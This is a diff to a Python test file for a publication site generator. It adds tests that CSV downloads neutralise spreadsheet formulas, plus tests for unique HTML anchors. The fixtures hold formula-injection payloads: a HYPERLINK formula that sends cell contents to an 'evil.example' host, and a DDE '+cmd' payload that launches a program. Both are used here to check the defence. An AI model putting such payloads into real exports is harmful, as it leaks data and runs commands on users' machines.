@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import datetime as dt
 
+import pytest
+
 from conftest import FIXTURES
 from publication.load import load_publication
 from publication.model import Kind, Nation
@@ -45,8 +47,8 @@ def test_a_proposition_page_lists_recommendations_with_anchors_and_evidence_by_k
     assert '### Recommendation 6: Invest in the hyperlocal {#invest-in-the-hyperlocal}' in page
     assert "**Who should act:** Funders and UK Government" in page
     assert "*Made as recommendation 6 in [The paper](../evidence/the-paper.md) (Example Trust, 2020).*" in page
-    assert "### Case studies\n\n- [Treorchy high street](../evidence/treorchy-high-street.md)" in page
-    assert "### Reports\n\n- [The paper](../evidence/the-paper.md)" in page
+    assert "### Case studies {#section_case-studies}\n\n- [Treorchy high street](../evidence/treorchy-high-street.md)" in page
+    assert "### Reports {#section_reports}\n\n- [The paper](../evidence/the-paper.md)" in page
     assert "See [Treorchy high street](../evidence/treorchy-high-street.md)." in page
 
 
@@ -106,3 +108,188 @@ def test_record_html_cannot_load_from_other_hosts_or_take_material_ids():
             '<img src="../assets/map.png" alt="b"></p><nav>menu</nav><input type="checkbox">')
 
     assert sanitise_html(html) == '<p>x<img alt="a"><img src="../assets/map.png" alt="b"></p>menu'
+
+
+# -- downloads: spreadsheet formulas ------------------------------------------------------------------------
+
+
+def _records_with_formulas(tmp_path):
+    """The minimal fixture with a formula at the start of a title, a place, an actor and a recommendation."""
+    import shutil
+
+    shutil.copytree(FIXTURES / "minimal", tmp_path / "records")
+    edits = {
+        "evidence/treorchy-high-street.yml": [
+            ("title: Treorchy high street", "title: '=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")'"),
+            ("name: Treorchy,", "name: \"+cmd|' /C calc'!A0\","),
+        ],
+        "propositions/future-can-be-local.yml": [
+            ("title: Invest in the hyperlocal", "title: '@SUM(A1:A9)'"),
+            ("actors: [Funders, UK Government]", "actors: ['-2+3', UK Government, '=1+1']"),
+        ],
+    }
+    for relative, changes in edits.items():
+        path = tmp_path / "records" / relative
+        text = path.read_text(encoding="utf-8")
+        for old, new in changes:
+            assert old in text
+            text = text.replace(old, new)
+        path.write_text(text, encoding="utf-8")
+    result = load_publication(tmp_path / "records", today=TODAY)
+    assert result.problems == []
+    return result.catalogue
+
+
+def _csv_rows(data: bytes) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def test_a_cell_that_would_start_a_formula_is_written_as_text_in_every_csv_download(tmp_path):
+    from publication import exports
+
+    files = exports.export_files(_records_with_formulas(tmp_path))
+    evidence = {row["id"]: row for row in _csv_rows(files[exports.EVIDENCE_CSV])}
+    recommendations = _csv_rows(files[exports.RECOMMENDATIONS_CSV])
+
+    treorchy = evidence["treorchy-high-street"]
+    assert treorchy["title"] == "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")"
+    assert treorchy["places"] == "'+cmd|' /C calc'!A0"
+    assert recommendations[0]["title"] == "'@SUM(A1:A9)"
+    assert recommendations[0]["actors"] == "'-2+3; UK Government; '=1+1"  # each of a list: split at '; '?
+    # Ordinary cells are as the records have them.
+    assert evidence["the-paper"] == {
+        "id": "the-paper", "kind": "report", "title": "The paper", "places": "United Kingdom",
+        "nations": "uk-wide", "period_start": "", "period_end": "", "propositions": "future-can-be-local",
+        "recommendations": "invest-in-the-hyperlocal", "published": "2020-07-23"}
+    assert treorchy["period_start"] == "2019-01"
+    assert recommendations[0]["made_by"] == "the-paper"
+
+
+def test_every_csv_cell_is_quoted_so_no_separator_inside_one_starts_a_new_cell(tmp_path):
+    from publication import exports
+
+    text = exports.export_files(_records_with_formulas(tmp_path))[exports.RECOMMENDATIONS_CSV].decode("utf-8")
+
+    assert text.splitlines() == [
+        '"id","number","title","proposition","actors","made_by"',
+        '"invest-in-the-hyperlocal","6","\'@SUM(A1:A9)","future-can-be-local","\'-2+3; UK Government; \'=1+1","the-paper"',
+    ]
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("=HYPERLINK(\"https://evil.example\")", "'=HYPERLINK(\"https://evil.example\")"),
+    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("\n=1+1", "'\n=1+1"),
+    ("Treorchy", "Treorchy"),
+    ("A = B + C - D @ E", "A = B + C - D @ E"),
+    ("'quoted already", "'quoted already"),
+    ("", ""),
+])
+def test_only_a_cell_that_starts_like_a_formula_gets_the_single_quote(cell, written):
+    import csv
+    import io
+
+    from publication.exports import csv_text
+
+    text = csv_text([["id", "cell"], ["x", cell]])
+
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [["id", "cell"], ["x", written]]
+
+
+def test_the_downloads_page_says_how_csv_cells_are_made_safe():
+    page = PageRenderer(load_minimal(), "Site").downloads_page()
+
+    assert ("Every cell of the CSV files is in double quotes, and a cell that would begin with `=`, `+`, `-`, "
+            "`@`, a tab or a line break begins with a single quote (`'`) instead, so that a spreadsheet shows "
+            "it as text and never runs it as a formula.") in page
+
+
+# -- anchors ------------------------------------------------------------------------------------------------
+
+SECTION_NAMED_IDS = ["evidence", "history", "contents", "sources", "at-a-glance", "what-it-supports",
+                     "section-top", "by-nation"]
+
+
+def _evidence_named(record_id: str, recommendation: str) -> str:
+    return (f"id: {record_id}\nkind: case-study\ntitle: Named {record_id}\nsummary: Its id is a section's name.\n"
+            "places:\n  - {name: Treorchy, nation: wales}\nsupports:\n  - proposition: future-can-be-local\n"
+            f"    recommendation: {recommendation}\n    how: It shows it.\n"
+            "sources:\n  - {title: A source, publisher: LocalGov}\npublished: 2020-12-02\n")
+
+
+def _ids_and_links(html: str) -> tuple[list[str], list[str]]:
+    import lxml.html
+
+    doc = lxml.html.document_fromstring(html)
+    return [e.get("id") for e in doc.iter() if isinstance(e.tag, str) and e.get("id")], \
+        [e.get("href") for e in doc.iter("a") if e.get("href")]
+
+
+def test_records_named_like_a_page_section_leave_every_anchor_unique_and_every_link_resolving(tmp_path):
+    from urllib.parse import unquote, urljoin, urlsplit
+
+    from conftest import make_project
+
+    project = make_project(tmp_path / "project", FIXTURES / "minimal")
+    recommendations = ["recommendations", "case-studies", "follow-this-proposition"]
+    for n, record_id in enumerate(SECTION_NAMED_IDS):
+        project.write(f"evidence/{record_id}.yml", _evidence_named(record_id, recommendations[n % 3]))
+    proposition = project.root / "propositions" / "future-can-be-local.yml"
+    proposition.write_text(proposition.read_text(encoding="utf-8").replace("recommendations:\n", (
+        "recommendations:\n"
+        "  - {id: recommendations, title: Named like the section, text: Its id is a section's name., actors: [Funders!]}\n"
+        "  - {id: case-studies, title: Named like a kind, text: Its id is a heading's., actors: ['-2+3']}\n"
+        "  - {id: follow-this-proposition, title: Named like the last section, text: Again., actors: []}\n")),
+        encoding="utf-8")
+    built = project.build()
+    assert built.returncode == 0, built.stderr
+
+    pages = {p.relative_to(project.site).as_posix(): p.read_text(encoding="utf-8")
+             for p in project.site.rglob("*.html") if "assets" not in p.parts}
+    ids = {}
+    for path, html in pages.items():
+        found, _ = _ids_and_links(html)
+        assert len(found) == len(set(found)), (path, sorted(i for i in found if found.count(i) > 1))
+        ids[path] = set(found)
+    checked = set()
+    for path, html in pages.items():
+        for href in _ids_and_links(html)[1]:
+            target = urlsplit(urljoin(f"https://site.example/{path}", href))
+            if target.netloc != "site.example" or not target.fragment:
+                continue
+            page = target.path.lstrip("/")
+            page = page + "index.html" if page.endswith("/") or not page else page
+            assert unquote(target.fragment) in ids.get(page, ()), f"{path}: {href} leads nowhere"
+            checked.add((path, href))
+    assert {("print/index.html", "#evidence"), ("print/index.html", "#section_evidence"),
+            ("print/index.html", "#recommendations"),
+            ("evidence/evidence/index.html", "../../propositions/future-can-be-local/#recommendations"),
+            ("evidence/history/index.html", "../../propositions/future-can-be-local/#case-studies"),
+            ("propositions/future-can-be-local/index.html", "#section_history")} <= checked
+
+    # Records keep their anchors; the page's own sections take a form no record id can.
+    proposition_ids = ids["propositions/future-can-be-local/index.html"]
+    assert {"recommendations", "case-studies", "follow-this-proposition"} <= proposition_ids
+    assert {"section_recommendations", "section_evidence", "section_case-studies", "section_history",
+            "section_follow-this-proposition"} <= proposition_ids
+    assert {"evidence", "history", "contents", "sources", "section_evidence", "section_contents"} <= ids["print/index.html"]
+    assert {"section_at-a-glance", "section_what-it-supports", "section_sources",
+            "section_history"} <= ids["evidence/at-a-glance/index.html"]
+    assert {"actor_funders", "actor_23", "section_not-named-in-the-source"} <= ids["recommendations/index.html"]
+
+
+def test_names_that_give_one_slug_get_numbered_anchors():
+    from publication.anchors import ACTOR_PREFIX, Unique
+
+    anchor = Unique(ACTOR_PREFIX)
+
+    assert [anchor(name) for name in ["Funders", "Funders!", "funders-2", "FUNDERS", "Funders", "!!!", "+-_"]] == [
+        "actor_funders", "actor_funders-2", "actor_funders-2-2", "actor_funders-3", "actor_funders",
+        "actor_unnamed", "actor_unnamed-2"]
